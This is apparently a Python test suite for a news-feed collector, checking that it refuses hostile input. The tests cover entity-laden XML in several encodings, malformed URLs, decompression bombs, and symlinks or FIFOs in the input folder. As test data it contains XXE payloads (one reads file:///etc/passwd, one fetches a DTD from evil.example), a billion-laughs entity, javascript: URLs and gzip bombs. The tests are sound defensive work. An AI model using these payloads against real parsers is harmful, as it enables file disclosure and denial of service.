"""Hostile input on the collection side (issue #11), closed as classes: a regression test for
each break, and property tests generating inputs of each hostile class (encodings of hostile
XML, control characters in every URL field, gzip members, file kinds)."""

from __future__ import annotations

import codecs
import gzip
import json
import os
import socket
import threading
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from test_fetch import failure, fetch, policy

from sitekit import article_html, rss
from veille.collect.feeds import parse_listing
from veille.collect.fetch import FetchPolicy
from veille.collect.files import MAX_RECORD_BYTES, Options, read_inputs
from veille.collect.inflate import BodyDecoder, inflate_gzip
from veille.collect.netguard import AddressPolicy
from veille.collect.poll import Collector
from veille.collect.safexml import parse_xml, prepare_xml
from veille.collect.testserver import LocalServer, Page, Site
from veille.collect.urls import edge_url, safe_url
from veille.errors import InputError
from veille.extract.html import extract_html
from veille.extract.records import record_to_content
from veille.ingest import ingest_paths
from veille.record import RawInput
from veille.settings import Settings
from veille.store.base import Source
from veille.store.sqlite import SQLiteStore

ROOT = "https://news.example"
PROPERTY = hsettings(max_examples=60, deadline=None,
                     suppress_health_check=[HealthCheck.function_scoped_fixture])
ENCODINGS = ["utf-8", "utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"]
BOMS = {"utf-8": codecs.BOM_UTF8, "utf-16-le": codecs.BOM_UTF16_LE,
        "utf-16-be": codecs.BOM_UTF16_BE, "utf-32-le": codecs.BOM_UTF32_LE,
        "utf-32-be": codecs.BOM_UTF32_BE}
LAUGHS = ('<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">' +
          "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
          + "]>")
CONTROLS = st.sampled_from([chr(c) for c in [*range(0, 32), 127, *range(128, 160)]])


def encode(text: str, encoding: str, *, bom: bool, declare: bool) -> bytes:
    declaration = f'<?xml version="1.0" encoding="{encoding.split("-l")[0].split("-b")[0]}"?>'
    return (BOMS[encoding] if bom else b"") + ((declaration if declare else "") + text).encode(
        encoding)


def feed_text(title: str, doctype: str = "") -> str:
    return (f"{doctype}<rss version='2.0'><channel><title>Fil</title><item><title>{title}"
            f"</title><link>{ROOT}/a</link></item></channel></rss>")


# 1. One safe XML entry point: decode first, whatever the encoding, then refuse.

@PROPERTY
@given(st.sampled_from(ENCODINGS), st.booleans(), st.booleans(),
       st.sampled_from([LAUGHS, '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
                        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
                        "<!-- c --><!DOCTYPE r [\n<!ATTLIST a b CDATA '1'>]>"]))
def test_entity_documents_are_refused_in_every_encoding(encoding: str, bom: bool,
                                                        declare: bool, doctype: str) -> None:
    data = encode(feed_text("&j;", doctype), encoding, bom=bom, declare=declare)
    with pytest.raises(InputError) as info:
        parse_listing(data, url=ROOT)
    assert info.value.reason == "unsafe-xml"
    with pytest.raises(InputError):
        parse_xml(data, origin="x")


@PROPERTY
@given(st.sampled_from(ENCODINGS), st.booleans(), st.booleans(),
       st.text(st.characters(codec="utf-8", exclude_characters="<&]"), max_size=40))
def test_plain_feeds_read_the_same_in_every_encoding(encoding: str, bom: bool, declare: bool,
                                                     title: str) -> None:
    data = encode(feed_text(title), encoding, bom=bom, declare=declare)
    listing = parse_listing(data, url=ROOT)
    assert [e.url for e in listing.entries] == [f"{ROOT}/a"]
    # XML 1.0 forbids most control characters; the rest of the title survives
    expected = " ".join("".join(c for c in title if c >= " " or c in "\t\n\r").split())
    assert listing.entries[0].title == expected.replace("\ufffe", "").replace("\uffff", "")


def test_utf16_billion_laughs_is_refused_before_any_parser() -> None:
    """Regression: the byte-level ``<!ENTITY`` check missed UTF-16, and feedparser's lenient
    fallback then expanded the entities (0.94 MB: 91 s, 3 GB)."""
    data = codecs.BOM_UTF16_LE + feed_text("&i;" * 1000, LAUGHS).encode("utf-16-le")
    with pytest.raises(InputError) as info:
        parse_listing(data, url=ROOT)
    assert info.value.reason == "unsafe-xml"


def test_a_feed_of_many_items_is_read_only_up_to_the_cap() -> None:
    data = rss(ROOT, [f"/n/{i}" for i in range(20_000)])
    listing = parse_listing(data, url=ROOT, max_items=10)
    assert [e.url for e in listing.entries] == [f"{ROOT}/n/{i}" for i in range(10)]


@PROPERTY
@given(st.binary(max_size=300))
def test_arbitrary_bytes_never_crash_the_listing_parser(data: bytes) -> None:
    for document in (data, b"<rss><channel><item><link>" + data + b"</link></item></channel>"):
        try:
            parse_listing(document, url=ROOT)
        except InputError as exc:
            assert exc.reason


def test_prepared_xml_is_utf8_without_forbidden_characters() -> None:
    prepared = prepare_xml("<a>\x01é&nbsp;&#1;</a>".encode("utf-16"), origin="x")
    assert prepared.decode("utf-8").endswith("<a>é&#160;&#xFFFD;</a>")


# 2. Every URL from outside is checked once, at the edge, with a typed error per item.

@PROPERTY
@given(CONTROLS, st.integers(0, 20))
def test_control_characters_in_every_listing_url_field(control: str, at: int) -> None:
    bad = (f"{ROOT}/article-with-a-long-name"[:at + 8] + control
           + f"{ROOT}/article-with-a-long-name"[at + 8:])
    escaped = "".join(f"&#{ord(c)};" if not c.isprintable() or c in "<&" else c for c in bad)
    documents = [
        rss(ROOT, ["/good"]).replace(b"</channel>", f"<item><link>{escaped}</link></item>"
                                                    "</channel>".encode()),
        (f'<feed xmlns="http://www.w3.org/2005/Atom"><entry><link href="{ROOT}/good"/></entry>'
         f'<entry><link href="{escaped}"/></entry></feed>').encode(),
        (f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>{ROOT}/good'
         f"</loc></url><url><loc>{escaped}</loc></url></urlset>").encode(),
        json.dumps({"version": "https://jsonfeed.org/version/1.1",
                    "items": [{"url": f"{ROOT}/good"}, {"url": bad}]}).encode(),
    ]
    for document in documents:
        listing = parse_listing(document, url=ROOT)
        assert [e.url for e in listing.entries] == [f"{ROOT}/good"]
        assert control.isspace() or listing.rejected_count == 1
        assert all(r.reason == "bad-url" for r in listing.rejected)


@PROPERTY
@given(CONTROLS)
def test_control_characters_in_record_and_canonical_urls_lose_the_link_only(
        control: str) -> None:
    bad = f"{ROOT}/a{control}b"
    content = record_to_content({"title": "Titre", "text": "Un paragraphe.", "url": bad})
    assert content.url is None
    page = (f"<html><head><link rel='canonical' href='{ROOT}/x{control}y'></head>"
            "<body><article><h1>Titre</h1><p>" + "Un paragraphe de texte. " * 10
            + "</p></article></body></html>")
    url = extract_html(page, url=f"{ROOT}/page", origin="p").url
    assert not url or safe_url(url) == url  # the parser may drop the character; never kept


@pytest.mark.parametrize(("value", "expected"), [
    ("https://user:secret@news.example/a", "https://news.example/a"),
    ("  /relative  ", f"{ROOT}/relative"),
    ("javascript:alert(1)", None), ("data:text/html,x", None), ("file:///etc/passwd", None),
    ("http://news.example:99999/", None), ("http://[::1/", None), ("mailto:a@news.example", None),
    ("https://news.example/\ufffd", None), ("x" * 3000, None),
])
def test_edge_url_rules(value: str, expected: str | None) -> None:
    assert safe_url(value, base=ROOT + "/feed") == expected
    if expected is None:
        with pytest.raises(InputError) as info:
            edge_url(value, base=ROOT)
        assert info.value.reason == "bad-url" and "\n" not in info.value.one_line()


POLICY = FetchPolicy(timeout=20.0, deadline=30.0, retries=0, delay=0.0, per_host=4,
                     allow=AddressPolicy.parse("127.0.0.1"), backoff=0.01)


@pytest.fixture
def two_sites() -> Iterator[LocalServer]:
    site = Site(pages={f"/a/{n}.html": Page(article_html(n)) for n in range(6)})
    with LocalServer(site) as server:
        site.pages["/bad.xml"] = Page(rss(server.root, ["/a/0.html", "/a/1.html"]).replace(
            b"/a/1.html</link>", b"/a/1&#127;.html</link>"), "application/xml")
        site.pages["/good.xml"] = Page(rss(server.root, ["/a/2.html", "/a/3.html"]),
                                       "application/xml")
        site.pages["/json.json"] = Page(json.dumps({
            "version": "https://jsonfeed.org/version/1.1",
            "items": [{"url": server.url("/a/4.html")},
                      {"url": server.url("/a/\u0001.html")}]}).encode(), "application/json")
        yield server


def test_a_control_character_in_one_feed_does_not_cost_the_other_sources(
        two_sites: LocalServer, store: SQLiteStore, settings: Settings) -> None:
    """Regression: ``&#127;`` in one RSS link or ``\\u0001`` in a JSON Feed URL crashed the
    whole poll, and the other sources lost their pages for good (marked unchanged)."""
    sources = [Source(name=n, kind="feed", url=two_sites.url(p))
               for n, p in (("bad", "/bad.xml"), ("good", "/good.xml"), ("json", "/json.json"))]
    summary = Collector(store, settings, policy=POLICY).poll(sources)
    assert summary.pages == 4 and summary.ingest.new == 4, summary.errors
    assert summary.ingest.reasons["bad-url"] == 2


def test_a_listing_is_seen_only_once_its_pages_are_stored(
        two_sites: LocalServer, store: SQLiteStore, settings: Settings) -> None:
    """A poll that leaves pages for later must not mark the listing unchanged (a 304 next
    time would hide those pages for good)."""
    feed = Source(name="good", kind="feed", url=two_sites.url("/good.xml"))
    first = Collector(store, settings, policy=POLICY, max_pages=1).poll([feed])
    assert first.pages == 1
    second = Collector(store, settings, policy=POLICY, max_pages=1).poll([feed])
    assert second.not_modified == 0 and second.pages == 1
    third = Collector(store, settings, policy=POLICY, max_pages=1).poll([feed])
    assert third.not_modified == 1 and third.pages == 0  # now everything is stored


def test_redirect_to_a_broken_location_is_one_failed_url(two_sites: LocalServer) -> None:
    for target in ("javascript:alert(1)", "http://user:pw@[::1", "/a/%7F\x7f"):
        error = failure(two_sites.url("/redirect?to=") + target.replace("\x7f", "%7F"),
                        policy())
        assert error.reason in ("bad-url", "connect", "http-404")


# 4. Bounded work: gzip members, JSON lines, HTTP content-encoding.

@PROPERTY
@given(st.lists(st.binary(max_size=200), min_size=1, max_size=40), st.integers(0, 3000))
def test_gzip_members_inflate_to_their_concatenation_within_the_limit(
        members: list[bytes], limit: int) -> None:
    data = b"".join(gzip.compress(m) for m in members)
    whole = b"".join(members)
    if len(whole) <= limit:
        assert inflate_gzip(data, limit=limit, origin="x") == whole
    else:
        with pytest.raises(InputError) as info:
            inflate_gzip(data, limit=limit, origin="x")
        assert info.value.reason == "too-large"
    with pytest.raises(InputError):
        inflate_gzip(data[:-3], limit=10**6, origin="x")


def test_many_tiny_gzip_members_are_read() -> None:
    data = gzip.compress(b"") * 200_000 + gzip.compress(b"fin")
    assert inflate_gzip(data, limit=100, origin="x") == b"fin"


def test_a_long_json_line_is_read_and_the_others_too(tmp_path: Path) -> None:
    # issue 13: read within the article bound (tests/extract/test_json_bound.py), no
    # longer refused whole
    line = json.dumps({"title": "Long", "text": "x " * (MAX_RECORD_BYTES // 2 + 10)})
    (tmp_path / "a.jsonl").write_text(json.dumps({"title": "Court", "text": "Un texte."})
                                      + "\n" + line + "\n" + json.dumps({"title": "T"}) + "\n")
    items = list(read_inputs([tmp_path / "a.jsonl"], options=Options(max_bytes=10**8)))
    assert [type(i).__name__ for i in items] == ["RawInput", "RawInput", "RawInput"]
    assert items[1].origin.endswith("#2")


@pytest.fixture
def bombs() -> Iterator[LocalServer]:
    import brotli

    zeros = b"\0" * 20_000_000
    site = Site(pages={
        "/gzip": Page(gzip.compress(zeros), content_encoding="gzip"),
        "/br": Page(brotli.compress(zeros), content_encoding="br"),
        "/deflate": Page(zlib.compress(zeros), content_encoding="deflate"),
        "/twice": Page(gzip.compress(gzip.compress(zeros)), content_encoding="gzip, gzip"),
        "/raw-deflate": Page(zlib.compress(b"<p>ok</p>")[2:-4], content_encoding="deflate"),
        "/zstd": Page(b"whatever", content_encoding="zstd"),
        "/broken": Page(b"\x1f\x8b\x08\x00garbage", content_encoding="gzip"),
    })
    with LocalServer(site) as server:
        yield server


@pytest.mark.parametrize("path", ["/gzip", "/br", "/deflate", "/twice"])
def test_content_encoding_bombs_stop_at_fetch_max_bytes(bombs: LocalServer, path: str) -> None:
    """Regression: gzip inside an HTTP body inflated to 100 MB whatever fetch_max_bytes
    said."""
    assert failure(bombs.url(path), policy(max_bytes=100_000)).reason == "too-large"


def test_content_encodings_decode_and_unknown_ones_fail(bombs: LocalServer) -> None:
    assert fetch(bombs.url("/raw-deflate")).body == b"<p>ok</p>"
    assert failure(bombs.url("/zstd")).reason == "bad-encoding"
    assert failure(bombs.url("/broken")).reason == "bad-encoding"
    with pytest.raises(ValueError):
        BodyDecoder("compress", limit=10)


# 5. Files: names kept losslessly, only regular files, symlinks kept inside the folder.

def test_a_file_name_that_is_not_utf8_is_ingested_and_later_runs_go_on(
        tmp_path: Path, store: SQLiteStore, settings: Settings) -> None:
    """Regression: a Latin-1 file name rolled back the whole batch, and every later run."""
    folder = tmp_path / "in"
    folder.mkdir()
    name = os.fsdecode(b"d\xe9p\xeache.html")  # Latin-1 bytes: not UTF-8
    (folder / name).write_bytes(article_html(1))
    (folder / "autre.html").write_bytes(article_html(2))
    done = ingest_paths(store, [folder], settings=settings)
    assert done.new == 2 and done.failed == 0, done.errors
    origins = {a.raw.origin for a in store.latest(limit=5)}
    assert str(folder / "d\\xe9p\\xeache.html") in origins
    assert ingest_paths(store, [folder], settings=settings).failed == 0


def _read_in_thread(paths: list[Path], options: Options) -> list[RawInput | InputError]:
    result: list[RawInput | InputError] = []
    worker = threading.Thread(target=lambda: result.extend(read_inputs(paths, options=options)),
                              daemon=True)
    worker.start()
    worker.join(timeout=10)
    assert not worker.is_alive(), "reading the folder blocked"
    return result


def test_a_fifo_named_like_an_archive_is_refused_without_blocking(tmp_path: Path) -> None:
    """Regression: the regular-file check was skipped for archive names."""
    os.mkfifo(tmp_path / "a.warc")
    os.mkfifo(tmp_path / "b.warc.gz")
    (tmp_path / "c.html").write_bytes(article_html(1))
    items = _read_in_thread([tmp_path], Options(max_bytes=10**6))
    assert [getattr(i, "reason", "raw") for i in items] == ["not-a-file", "not-a-file", "raw"]


def test_a_symlink_outside_the_folder_is_refused_unless_allowed(tmp_path: Path) -> None:
    """Regression: a link to a file readable only by its owner became a served article."""
    secret = tmp_path / "secret.html"
    secret.write_bytes(article_html(9))
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a-link.html").symlink_to(secret)
    (folder / "b-inside.html").symlink_to(folder / "c.html")
    (folder / "c.html").write_bytes(article_html(1))
    items = list(read_inputs([folder], options=Options(max_bytes=10**6)))
    assert [getattr(i, "reason", "raw") for i in items] == ["outside-root", "raw", "raw"]
    allowed = Options(max_bytes=10**6, follow_symlinks_outside=True)
    assert all(isinstance(i, RawInput) for i in read_inputs([folder], options=allowed))
    assert isinstance(next(read_inputs([folder / "a-link.html"], options=Options(10**6))),
                      RawInput)  # a link named explicitly is the user's choice


def test_the_setting_reaches_ingest(tmp_path: Path, store: SQLiteStore) -> None:
    (tmp_path / "secret.html").write_bytes(article_html(9))
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "link.html").symlink_to(tmp_path / "secret.html")
    refused = ingest_paths(store, [tmp_path / "in"], settings=Settings(data_dir=tmp_path))
    assert refused.reasons["outside-root"] == 1
    allowed = Settings(data_dir=tmp_path, follow_symlinks_outside=True)
    assert ingest_paths(store, [tmp_path / "in"], settings=allowed).new == 1


KINDS = ["regular", "fifo", "socket", "link-in", "link-out", "dangling", "dir-link"]
NAMES = ["a.warc", "a.warc.gz", "a.html", "a.txt", "a", "a.jsonl", "a.xml"]


@hsettings(max_examples=30, deadline=None,
           suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.sampled_from(KINDS), st.sampled_from(NAMES)), min_size=1,
                max_size=6))
def test_any_mix_of_file_kinds_never_blocks_nor_leaks(tmp_path_factory: pytest.TempPathFactory,
                                                      files: list[tuple[str, str]]) -> None:
    base = tmp_path_factory.mktemp("kinds")
    outside = base / "outside.html"
    outside.write_bytes(article_html(5))
    folder = base / "in"
    folder.mkdir()
    (folder / "target.html").write_bytes(article_html(6))
    sockets = []
    for n, (kind, name) in enumerate(files):
        path = folder / f"{n}-{name}"
        if kind == "regular":
            path.write_bytes(article_html(100 + n))
        elif kind == "fifo":
            os.mkfifo(path)
        elif kind == "socket":
            sock = socket.socket(socket.AF_UNIX)
            try:
                sock.bind(str(path))
            except OSError:  # path too long for a socket on this system
                sock.close()
                continue
            sockets.append(sock)
        elif kind == "link-in":
            path.symlink_to(folder / "target.html")
        elif kind == "link-out":
            path.symlink_to(outside)
        elif kind == "dangling":
            path.symlink_to(folder / "nowhere")
        else:
            path.symlink_to(base, target_is_directory=True)
    try:
        items = _read_in_thread([folder], Options(max_bytes=10**6))
    finally:
        for sock in sockets:
            sock.close()
    for item in items:
        if isinstance(item, RawInput):
            assert item.data != outside.read_bytes()
        else:
            assert item.reason in ("not-a-file", "outside-root", "not-found", "unsupported",
                                   "bad-warc", "empty", "bad-json", "not-news", "unreadable",
                                   "not-warc", "not-xml", "not-a-page")


@PROPERTY
@given(st.one_of(
    st.text(max_size=40),
    st.from_regex(r"[A-Za-z]{3}, [0-9]{1,3} [A-Za-z]{3} [0-9]{1,6} [0-9:]{1,9} [+-A-Z0-9]{0,6}",
                  fullmatch=True),
    st.from_regex(r"[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9:.]{0,15}[Z+-0-9:]{0,6}", fullmatch=True)))
def test_any_listing_date_text_gives_a_date_or_none(text: str) -> None:
    from veille.collect.feeds import parse_date

    found = parse_date(text)
    assert found is None or found.tzinfo is not None
